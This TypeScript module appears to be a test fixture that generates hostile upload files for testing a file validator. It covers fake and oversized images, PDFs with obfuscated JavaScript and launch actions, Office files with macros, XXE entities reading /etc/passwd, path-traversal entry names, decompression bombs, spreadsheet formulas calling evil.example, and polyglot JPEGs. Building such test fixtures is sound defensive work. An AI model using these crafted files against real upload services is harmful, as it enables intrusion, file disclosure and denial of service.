/** Hostile files, made in code: each with the name and the label that its sender gives it. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'

export interface HostileFile {
  readonly what: string
  readonly name: string
  readonly type: string
  readonly bytes: Buffer
}
const file = (what: string, name: string, type: string, bytes: Buffer | string): HostileFile => ({
  what,
  name,
  type,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
})
const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((p) => new Uint8Array(typeof p === 'string' ? Buffer.from(p, 'latin1') : p)))

interface Entry {
  readonly name: string
  readonly data: Buffer | string
  /** What the headers say that it unpacks to, where they lie. */
  readonly claims?: number
}

/** A zip of deflated parts. */
export function zip(entries: readonly Entry[]): Buffer {
  const bodies: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { name, data, claims } of entries) {
    const raw = typeof data === 'string' ? Buffer.from(data) : data
    const packed = deflateRawSync(raw)
    const title = Buffer.from(name)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(20, 4)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(crc32(raw), 14)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(claims ?? raw.length, 22)
    head.writeUInt16LE(title.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(8, 10)
    head.copy(entry, 16, 14, 26)
    entry.writeUInt16LE(title.length, 28)
    entry.writeUInt32LE(offset, 42)
    bodies.push(head, title, packed)
    directory.push(entry, title)
    offset += head.length + title.length + packed.length
  }
  const listed = joined(...directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(Math.min(entries.length, 65_535), 8)
  end.writeUInt16LE(Math.min(entries.length, 65_535), 10)
  end.writeUInt32LE(listed.length, 12)
  end.writeUInt32LE(offset, 16)
  return joined(...bodies, listed, end)
}

const chunk = (kind: string, data: Buffer) => {
  const body = joined(kind, data)
  const out = Buffer.alloc(8)
  out.writeUInt32BE(data.length, 0)
  out.writeUInt32BE(crc32(body), 4)
  return joined(out.subarray(0, 4), body, out.subarray(4))
}
/** A grey PNG of a size, with rows for as much of it as is asked for. */
function png(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const line = Math.ceil(width / 8) + 1
  const data = deflateSync(Buffer.alloc(line * rows))
  return joined('\x89PNG\r\n\x1a\n', chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0)))
}

/** A photo in name, refused by everybody who takes one. */
export const falsePhotos = (jpeg: Buffer): HostileFile[] => [
  file('nothing at all', 'a.jpg', 'image/jpeg', ''),
  file('text', 'a.jpg', 'image/jpeg', 'no picture'),
  file('a photo cut off', 'a.jpg', 'image/jpeg', jpeg.subarray(0, 400)),
  file('the head of a photo and noise', 'a.jpg', 'image/jpeg', joined(jpeg.subarray(0, 60), Buffer.alloc(5000, 7))),
  file('a PNG whose sums are wrong', 'a.png', 'image/png', joined(png(40, 40).subarray(0, 50), 'xxxx', png(9, 9))),
  file('100,000 by one', 'a.png', 'image/png', png(100_000, 1)),
  file('one by 100,000', 'a.png', 'image/png', png(1, 100_000)),
  file('a head that says 65,000 by 65,000', 'a.png', 'image/png', png(65_000, 65_000, 1)),
  file('30,000 by 30,000 of one grey', 'a.png', 'image/png', png(30_000, 30_000, 2000)),
  file(
    'a GIF',
    'a.gif',
    'image/gif',
    'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
  ),
  file(
    'a drawing with a script',
    'a.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ),
  file('a page that calls itself a photo', 'a.jpg', 'image/jpeg', '<!DOCTYPE html><script>alert(1)</script>'),
  file('a bitmap', 'a.bmp', 'image/bmp', joined('BM', Buffer.alloc(200))),
  file('a TIFF', 'a.tif', 'image/tiff', joined('II*\0', Buffer.alloc(200))),
  file('an icon', 'a.ico', 'image/x-icon', joined('\0\0\x01\0\x01\0', Buffer.alloc(200))),
  file('a WebP cut off', 'a.webp', 'image/webp', joined('RIFF\x40\0\0\0WEBPVP8 ', Buffer.alloc(30))),
  file(
    'an AVIF of nothing',
    'a.avif',
    'image/avif',
    joined('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', Buffer.alloc(60)),
  ),
  file('a HEIC of nothing', 'a.heic', 'image/heic', joined('\0\0\0\x18ftypheic\0\0\0\0mif1heic', Buffer.alloc(60))),
  file('a program for Windows', 'a.jpg', 'image/jpeg', joined('MZ\x90\0', Buffer.alloc(300))),
  file('a program for Linux', 'a.jpg', 'image/jpeg', joined('\x7fELF\x02\x01\x01', Buffer.alloc(300))),
  file('a photo labelled as a document', 'a.pdf', 'application/pdf', jpeg),
  file('an archive', 'a.zip', 'application/zip', zip([{ name: 'a.txt', data: 'a' }])),
]

const pdf = (...objects: (Buffer | string)[]) =>
  joined(
    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n',
    ...objects,
    '\ntrailer\n<</Root 1 0 R>>\n%%EOF\n',
  )
const stream = (dictionary: string, data: Buffer | string) =>
  joined(`5 0 obj\n<<${dictionary}>>\nstream\n`, data, '\nendstream\nendobj\n')
const action = (what: string) => `3 0 obj\n<</OpenAction<</S/${what}/JS(app.alert\\(1\\))>>>>\nendobj\n`
const script = '7 0 <</S/JavaScript/JS(app.alert(1))>>'
const hex = (text: string) => text.replaceAll(/./g, (c) => `#${c.charCodeAt(0).toString(16)}`)

/** Documents of one kind that carry something which runs, fetches, hides or swells. */
export const falsePdfs = (): HostileFile[] =>
  (
    [
      ['a script', pdf(action('JavaScript'))],
      ['streams that begin and never end', pdf('stream\n'.repeat(60_000))],
      ['a script with a letter spelt otherwise', pdf(action('J#61vaScript'))],
      ['a script spelt all otherwise', pdf(action(hex('JavaScript')))],
      ['a script by its key alone', pdf('3 0 obj\n<</A<</JS (app.alert(1))>>>>\nendobj\n')],
      ['a script across the border of what is read at once', pdf(' '.repeat(131_072 - 130), action('JavaScript'))],
      ['a program to be launched', pdf('3 0 obj\n<</A<</S/Launch/F(cmd.exe)>>>>\nendobj\n')],
      ['a program to be launched, spelt otherwise', pdf('3 0 obj\n<</A<</S/L#61unch/F(cmd.exe)>>>>\nendobj\n')],
      ['an embedded file', pdf(stream('/Type/EmbeddedFile/Length 2', 'MZ'))],
      ['a tree of embedded files', pdf('3 0 obj\n<</Names<</EmbeddedFiles 4 0 R>>>>\nendobj\n')],
      ['an attachment', pdf('3 0 obj\n<</Subtype/FileAttachment/FS 4 0 R>>\nendobj\n')],
      ['another document to be opened', pdf('3 0 obj\n<</S/GoToR/F(http://evil.example/a.pdf)>>\nendobj\n')],
      ['a form that sends', pdf('3 0 obj\n<</S/SubmitForm/F(http://evil.example)>>\nendobj\n')],
      ['data to be fetched', pdf('3 0 obj\n<</S/ImportData/F(a.fdf)>>\nendobj\n')],
      ['rich media', pdf('3 0 obj\n<</Subtype/RichMedia>>\nendobj\n')],
      ['a form in XML', pdf('3 0 obj\n<</AcroForm<</XFA 4 0 R>>>>\nendobj\n')],
      ['a lock', pdf('trailer\n<</Encrypt 9 0 R>>\n')],
      [
        'a script in packed objects',
        pdf(stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.from(script)))),
      ],
      [
        'a script in packed objects, spelt otherwise',
        pdf(
          stream(
            '/Type/ObjStm/N 1/First 4/Filter/Fl#61teDecode',
            deflateSync(Buffer.from(script.replace('JavaScript', 'Java#53cript'))),
          ),
        ),
      ],
      [
        'objects packed as figures',
        pdf(stream('/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', Buffer.from(script).toString('hex'))),
      ],
      [
        'objects packed twice',
        pdf(
          stream(
            '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
            deflateSync(deflateSync(Buffer.from(script))),
          ),
        ),
      ],
      [
        'objects hidden by a predictor',
        pdf(
          stream(
            '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>',
            deflateSync(Buffer.alloc(50)),
          ),
        ),
      ],
      ['packed objects that do not say so', pdf(stream('/N 1/First 4/Filter/LZWDecode', Buffer.alloc(40, 3)))],
      ['a bomb', pdf(stream('/Filter/FlateDecode', deflateSync(Buffer.alloc(130_000_000))))],
    ] as const
  ).map(([what, bytes]) => file(`PDF: ${what}`, 'a.pdf', 'application/pdf', bytes))

const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const types = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`
const word = (...more: Entry[]) =>
  zip([
    { name: '[Content_Types].xml', data: types(`${wordType}.main+xml`) },
    { name: 'word/document.xml', data: '<w:document xmlns:w="w"/>' },
    ...more,
  ])
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const zeros = Buffer.alloc(170_000_000)

const longTags = [
  ['relations that begin and never end', '<Relationship '.repeat(700_000) + ' '.repeat(250_000)],
  [
    'a template from elsewhere whose tag is longer than a piece',
    relation('attachedTemplate', 'http://evil.example/t.dotm').replace('Target=', `${' '.repeat(150_000)}Target=`),
  ],
] as const

export const falseOffice = (): HostileFile[] =>
  (
    [
      ['macros', word({ name: 'word/vbaProject.bin', data: 'x' })],
      ['macros by another spelling', word({ name: 'word/VBAproject.BIN', data: 'x' })],
      ['a control', word({ name: 'word/activeX/activeX1.xml', data: '<x/>' })],
      ['an object', word({ name: 'word/embeddings/oleObject1.bin', data: 'x' })],
      ['a program', word({ name: 'word/run.EXE', data: 'MZ' })],
      ['an archive within', word({ name: 'word/inner.zip', data: zip([{ name: 'a', data: 'a' }]) })],
      [
        'a template from elsewhere',
        word({
          name: 'word/_rels/settings.xml.rels',
          data: relation('attachedTemplate', 'http://evil.example/t.dotm'),
        }),
      ],
      [
        'a picture from elsewhere',
        word({ name: 'word/_rels/document.xml.rels', data: relation('image', 'file://evil.example/a.png') }),
      ],
      [
        'entities of its own',
        word({ name: 'word/footer.xml', data: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
      ],
      [
        'entities in other letters',
        word({ name: 'word/footer.xml', data: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x/>', 'utf16le') }),
      ],
      ['a name that leads out', word({ name: '../../../etc/cron.d/evil', data: 'x' })],
      ['a name that leads out the other way', word({ name: 'word\\..\\..\\evil.txt', data: 'x' })],
      ['a name from the root', word({ name: '/etc/passwd', data: 'x' })],
      ...longTags.map(([what, data]) => [what, word({ name: 'word/_rels/a.xml.rels', data })] as const),
      ['a bomb by ratio', word({ name: 'word/big.xml', data: zeros })],
      ['a bomb that says it is small', word({ name: 'word/big.xml', data: zeros, claims: 10 })],
      ['a bomb by count', word(...Array.from({ length: 4000 }, (_, i) => ({ name: `word/${i}.xml`, data: '<x/>' })))],
      ['an end cut off', word().subarray(0, -30)],
      [
        'the types of one with macros',
        zip([
          { name: '[Content_Types].xml', data: types('application/vnd.ms-word.document.macroEnabled.main+xml') },
          { name: 'word/document.xml', data: '<x/>' },
        ]),
      ],
    ] as const
  ).map(([what, bytes]) => file(`document: ${what}`, 'a.docx', wordType, bytes))

const sheet = (rows: string, ...more: Entry[]) =>
  zip([
    {
      name: '[Content_Types].xml',
      data: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="${sheetType}.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    },
    {
      name: 'xl/workbook.xml',
      data: '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    },
    { name: 'xl/worksheets/sheet1.xml', data: `<?xml version="1.0"?>${rows}` },
    ...more,
  ])
const rowsOf = (cells: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`
const line = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'

/** Tables in name, for who takes tables. */
export const falseTables = (): HostileFile[] =>
  (
    [
      ['nothing at all', 'a.xlsx', Buffer.alloc(0)],
      ['an archive of nothing', 'a.xlsx', zip([])],
      ['an archive of something else', 'a.xlsx', zip([{ name: 'a.txt', data: 'a' }])],
      ['a workbook cut off', 'a.xlsx', sheet(rowsOf(line)).subarray(0, 400)],
      ['a workbook that calls itself a text', 'a.csv', sheet(rowsOf(line))],
      ['a text that calls itself a workbook', 'a.xlsx', Buffer.from('a,b\n1,2\n')],
      ['a program', 'a.csv.exe', Buffer.from('MZ')],
      ['a name with a path and no kind', '../../../etc/passwd', Buffer.from('a,b\n1,2\n')],
      [
        'formulas',
        'a.xlsx',
        sheet(rowsOf('<row><c><f>WEBSERVICE("http://evil.example")</f><v>1</v></c></row>'.repeat(3))),
      ],
      [
        'entities of its own',
        'a.xlsx',
        sheet(
          `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${rowsOf('<row><c t="inlineStr"><is><t>&a;</t></is></c></row>'.repeat(2))}`,
        ),
      ],
      [
        'entities that multiply',
        'a.xlsx',
        sheet(
          `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${rowsOf('<row><c t="inlineStr"><is><t>&b;</t></is></c></row>'.repeat(2))}`,
        ),
      ],
      ['a bomb by ratio', 'a.xlsx', sheet(rowsOf(line.repeat(400_000)))],
      [
        'a bomb that says it is small',
        'a.xlsx',
        sheet(rowsOf(line), { name: 'xl/sharedStrings.xml', data: zeros, claims: 10 }),
      ],
      ['XML without end', 'a.xlsx', sheet('<worksheet><sheetData>' + '<a>'.repeat(200_000))],
      ['a text without the columns', 'a.csv', Buffer.from('a,b\n1,2\n')],
      ['a text of noise', 'a.csv', Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256))],
      ['a quote that never ends', 'a.csv', Buffer.from(`工单号,标题,内容\n"${'x'.repeat(100_000)}`)],
    ] as const
  ).map(([what, name, bytes]) => file(`table: ${what}`, name, '', bytes))

/** True photos with something behind or within: they are taken, and what they carry stays behind. */
export const carriers = (jpeg: Buffer, marker: string): HostileFile[] => {
  const comment = Buffer.alloc(4)
  comment.writeUInt16BE(0xfffe, 0)
  comment.writeUInt16BE(marker.length + 2, 2)
  return [
    file(
      'a photo with an archive behind it',
      'a.jpg',
      'image/jpeg',
      joined(jpeg, zip([{ name: marker, data: marker }])),
    ),
    file('a photo with a page behind it', 'a.jpg', 'image/jpeg', joined(jpeg, `<html><script>${marker}</script>`)),
    file('a photo with a document behind it', 'a.jpg', 'image/jpeg', joined(jpeg, `%PDF-1.7 ${marker}`)),
    file(
      'a photo with code in its comment',
      '../../x.php',
      'image/jpeg',
      joined(jpeg.subarray(0, 2), comment, marker, jpeg.subarray(2)),
    ),
  ]
}
